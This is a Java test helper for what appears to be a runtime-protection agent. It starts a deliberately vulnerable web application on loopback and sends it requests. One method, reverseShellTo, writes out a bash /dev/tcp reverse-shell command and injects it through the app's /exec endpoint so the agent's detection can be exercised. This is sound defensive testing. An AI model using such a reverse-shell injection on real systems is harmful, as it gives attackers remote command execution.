package dev.vigil.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

/**
 * The tests' vulnerable Java web application (src/test/jvm) running in a JVM of its own: built once
 * for Java 17 under target/, started on the JDK asked for, as root or as another user, serving on a
 * loopback port of its choice.
 */
final class VulnerableJvm implements AutoCloseable {
    static final Path JAVA_17 = Path.of("/usr/lib/jvm/java-17-openjdk-amd64/bin/java");
    static final Path JAVA_25 = Path.of(System.getProperty("java.home"), "bin", "java");
    private static final Path HOME = Path.of("target", "test-jvm").toAbsolutePath();
    private static final HttpClient HTTP = HttpClient.newHttpClient();

    final Process process;
    final int port;
    final Path webroot;

    private VulnerableJvm(Process process, int port, Path webroot) {
        this.process = process;
        this.port = port;
        this.webroot = webroot;
    }

    private static boolean built;

    /** The application's classes, built for Java 17 from src/test/jvm once per test run. */
    static synchronized Path classes() throws Exception {
        Path out = HOME.resolve("classes");
        if (built) {
            return out;
        }
        if (Files.exists(out)) {
            try (Stream<Path> old = Files.walk(out)) {
                for (Path p : old.sorted(java.util.Comparator.reverseOrder()).toList()) {
                    Files.delete(p);
                }
            }
        }
        Files.createDirectories(out);
        List<String> cmd = new ArrayList<>(List.of(Path.of(System.getProperty("java.home"), "bin", "javac").toString(), "--release", "17",
                "-cp", libraries(), "-d", out.toString()));
        try (Stream<Path> sources = Files.walk(Path.of("src/test/jvm"))) {
            sources.filter(p -> p.toString().endsWith(".java")).forEach(p -> cmd.add(p.toString()));
        }
        Process javac = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        String log = new String(javac.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(javac.waitFor(60, TimeUnit.SECONDS) && javac.exitValue() == 0, "javac: " + log);
        built = true;
        return out;
    }

    /** The libraries the applications use (embedded Tomcat, Spring's expressions, OGNL, ByteBuddy), from the test class path. */
    static String libraries() {
        List<String> jars = List.of("tomcat-embed-core", "tomcat-embed-el", "tomcat-annotations-api", "spring-expression", "spring-core",
                "spring-jcl", "ognl-", "javassist", "byte-buddy");
        return java.util.Arrays.stream(System.getProperty("java.class.path").split(java.io.File.pathSeparator))
                .filter(p -> jars.stream().anyMatch(j -> Path.of(p).getFileName().toString().startsWith(j)))
                .collect(java.util.stream.Collectors.joining(java.io.File.pathSeparator));
    }

    /** Starts the application on `java` (as `user` when not null), once it serves. */
    static VulnerableJvm start(Path java, String user, String... jvmOptions) throws Exception {
        return start("dev.vigil.testapp.VulnerableApp", java, user, jvmOptions);
    }

    /** The embedded Tomcat application (memory web shells) on `java`, once it serves. */
    static VulnerableJvm tomcat(Path java) throws Exception {
        return start("dev.vigil.testapp.TomcatApp", java, null);
    }

    private static VulnerableJvm start(String main, Path launcher, String user, String... jvmOptions) throws Exception {
        Path classes = classes();
        Path webroot = Files.createDirectories(HOME.resolve("webroot-" + System.nanoTime()));
        Files.setPosixFilePermissions(webroot, PosixFilePermissions.fromString("rwxrwxrwx"));
        Files.writeString(webroot.resolve("index.html"), "<p>hello</p>");
        List<String> cmd = new ArrayList<>();
        if (user != null) {
            cmd.addAll(List.of("setpriv", "--reuid=" + user, "--regid=" + user, "--clear-groups"));
        }
        cmd.add(launcher.toString());
        if (user != null) {
            cmd.add("-XX:-UsePerfData"); // no /tmp/hsperfdata_USER left behind; attach does not need it
        }
        cmd.addAll(List.of(jvmOptions));
        cmd.addAll(List.of("-cp", classes + java.io.File.pathSeparator + libraries(), main, "0", webroot.toString()));
        Process p = new ProcessBuilder(cmd).directory(webroot.toFile()).redirectError(ProcessBuilder.Redirect.DISCARD).start();
        BufferedReader out = new BufferedReader(new InputStreamReader(p.getInputStream(), StandardCharsets.UTF_8));
        String ready = out.readLine();
        if (ready == null || !ready.startsWith("ready ")) {
            p.destroyForcibly();
            fail("the vulnerable app did not start on " + launcher + ": " + ready);
        }
        return new VulnerableJvm(p, Integer.parseInt(ready.substring(6)), webroot);
    }

    long pid() {
        return process.pid();
    }

    /** GET path (already encoded) on the application; its answer's body. */
    String get(String pathAndQuery) throws Exception {
        return HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + pathAndQuery)).build(),
                HttpResponse.BodyHandlers.ofString()).body();
    }

    String post(String pathAndQuery, byte[] body) throws Exception {
        return HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + pathAndQuery))
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(), HttpResponse.BodyHandlers.ofString()).body();
    }

    /** Asks the application (in the background: the request lasts as long as the shell) to start a shell on a connection to `listener`. */
    void reverseShellTo(java.net.ServerSocket listener) {
        String shell = "exec bash -c 'exec sh -i <>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + " >&0 2>&1'";
        Thread.ofVirtual().start(() -> {
            try {
                get("/exec?cmd=" + encode(shell));
            } catch (Exception ignored) {
                // the request ends when the shell does
            }
        });
    }

    static String encode(String s) {
        return java.net.URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** The running agent's entry for this JVM in `vigil rasp`'s state, once `ready` holds for it. */
    JsonNode awaitState(java.util.function.Predicate<JsonNode> ready, String what) throws Exception {
        return awaitState(pid(), ready, what);
    }

    static JsonNode awaitState(long pid, java.util.function.Predicate<JsonNode> ready, String what) throws Exception {
        JsonNode last = null;
        for (int i = 0; i < 1500; i++) {
            try {
                JsonNode state = new ObjectMapper().readTree(Files.readString(dev.vigil.agent.RaspIntake.STATE));
                for (JsonNode j : state.path("jvms")) {
                    if (j.path("pid").asLong() == pid) {
                        last = j;
                        if (ready.test(j)) {
                            return j;
                        }
                    }
                }
            } catch (IOException notYet) {
                // the agent writes it as it starts
            }
            Thread.sleep(20);
        }
        assertNotNull(null, "JVM " + pid + " never " + what + " within 30 s; last state: " + last);
        return null;
    }

    @Override
    public void close() throws Exception {
        process.destroy();
        if (!process.waitFor(10, TimeUnit.SECONDS)) {
            process.destroyForcibly().waitFor();
        }
        try (Stream<Path> files = Files.walk(webroot)) {
            for (Path p : files.sorted(java.util.Comparator.reverseOrder()).toList()) {
                Files.deleteIfExists(p);
            }
        }
    }
}
